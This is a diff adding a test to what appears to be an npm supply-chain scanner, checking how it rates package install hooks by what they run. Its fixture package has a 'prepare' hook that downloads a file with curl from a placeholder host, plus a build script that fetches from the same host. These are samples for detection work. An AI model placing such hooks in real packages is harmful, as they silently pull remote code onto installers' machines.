@@ -68,3 +68,14 @@ def test_binding_gyp_commands_run_when_npm_builds_the_addon(tmp_path: Path) -> N
     # a package with its own install script: npm does not run node-gyp for it
     own = _package(tmp_path / "b07", {"install": "echo done"}, {"binding.gyp": gyp, "index.js": "module.exports = 1;\n"})
     assert _install_network(own, tmp_path / "c2") == []
+
+
+def test_each_hook_is_rated_by_what_it_runs(tmp_path: Path) -> None:
+    root = _package(tmp_path / "x05", {"prepare": "curl -s https://x05.example.com/p -o p",
+                                       "postinstall": "echo see https://docs.example.com/setup",
+                                       "install": "node build.js"},
+                    {"build.js": "require('https').get('https://x05.example.com/b');\n",
+                     "index.js": "module.exports = 1;\n"})
+    package = scan_one(root, tmp_path / "c")
+    hooks = {a.finding.api: a.severity.value for a in package.alerts if a.type == "installScripts"}
+    assert hooks == {"scripts.prepare": "high", "scripts.postinstall": "low", "scripts.install": "high"}
